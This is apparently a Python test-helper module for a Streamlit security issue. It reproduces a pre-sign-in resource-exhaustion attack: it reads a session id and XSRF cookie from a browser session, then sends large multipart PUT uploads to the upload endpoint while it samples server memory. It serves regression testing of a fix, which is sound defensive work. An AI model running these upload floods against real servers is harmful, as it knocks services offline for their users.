"""The pre-sign-in attacks of issue 15 (finding 1), as functions the e2e tests and the measurements share.

A signed-out visitor opens the app in a browser, which gives it what the tester used: the page's XSRF
cookie and its session id (sent by the server in the first WebSocket message). It then sends raw
HTTP from outside the browser: ``PUT /_stcore/upload_file/<session>/<id>`` with large multipart
bodies, or one large WebSocket frame, while the server's resident memory is sampled from ``/proc``.
"""

from __future__ import annotations

import http.client
import os
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlparse

MB = 1024 * 1024


@dataclass(frozen=True)
class Session:
    """What a browser session gives an attacker: its id, the XSRF cookie, and the cookie header."""

    session_id: str
    xsrf: str
    cookie_header: str


def rss_mb(pid: int) -> float:
    """The process's resident set size, in MB (``VmRSS`` from ``/proc``)."""
    with open(f"/proc/{pid}/status", encoding="ascii") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise RuntimeError(f"no VmRSS for {pid}")


def browser_session(page: Any, url: str, ready: Any) -> Session:
    """Open ``url`` in ``page``, wait for ``ready(page)``, and read the session id off the WebSocket."""
    from streamlit.proto.ForwardMsg_pb2 import ForwardMsg

    found: list[str] = []

    def on_frame(payload: Any) -> None:
        if isinstance(payload, (bytes, bytearray)) and not found:
            msg = ForwardMsg()
            try:
                msg.ParseFromString(bytes(payload))
            except Exception:  # not every frame is a ForwardMsg the attacker cares about
                return
            if msg.HasField("new_session") and msg.new_session.initialize.session_id:
                found.append(msg.new_session.initialize.session_id)

    page.on("websocket", lambda ws: ws.on("framereceived", on_frame))
    page.goto(url)
    ready(page)
    cookies = page.context.cookies()
    xsrf = next(c["value"] for c in cookies if c["name"] == "_streamlit_xsrf")
    header = "; ".join(f"{c['name']}={c['value']}" for c in cookies)
    deadline = time.monotonic() + 20
    while not found and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    assert found, "no session id seen on the WebSocket"
    return Session(found[0], xsrf, header)


def _multipart(size: int, boundary: str) -> tuple[int, Iterator[bytes]]:
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="flood.csv"\r\n'
        "Content-Type: text/csv\r\n\r\n"
    ).encode()
    tail = f"\r\n--{boundary}--\r\n".encode()

    def chunks() -> Iterator[bytes]:
        yield head
        block = b"a," * (MB // 2)
        left = size
        while left > 0:
            piece = block[: min(len(block), left)]
            left -= len(piece)
            yield piece
        yield tail

    return len(head) + size + len(tail), chunks()


@dataclass(frozen=True)
class PutResult:
    """One upload attempt: HTTP status (None if the server closed the connection first) and seconds taken."""

    status: int | None
    seconds: float
    sent_mb: float


def put_upload(base_url: str, s: Session, file_id: str, size: int) -> PutResult:
    """``PUT /_stcore/upload_file/<session>/<file_id>`` with a ``size``-byte file, as the tester did."""
    u = urlparse(base_url)
    boundary = "----anningflood" + os.urandom(6).hex()
    length, body = _multipart(size, boundary)
    conn = http.client.HTTPConnection(u.hostname, u.port, timeout=120)
    started = time.monotonic()
    sent = 0
    status: int | None = None
    try:
        conn.putrequest("PUT", f"/_stcore/upload_file/{s.session_id}/{file_id}")
        conn.putheader("Content-Type", f"multipart/form-data; boundary={boundary}")
        conn.putheader("Content-Length", str(length))
        conn.putheader("Cookie", s.cookie_header)
        conn.putheader("X-Xsrftoken", s.xsrf)
        conn.endheaders()
        try:
            for chunk in body:
                conn.send(chunk)
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the server answered and closed without reading the rest: that is the point
        try:
            status = conn.getresponse().status
        except (http.client.HTTPException, ConnectionError, OSError):
            status = None
    finally:
        conn.close()
    return PutResult(status, time.monotonic() - started, sent / MB)
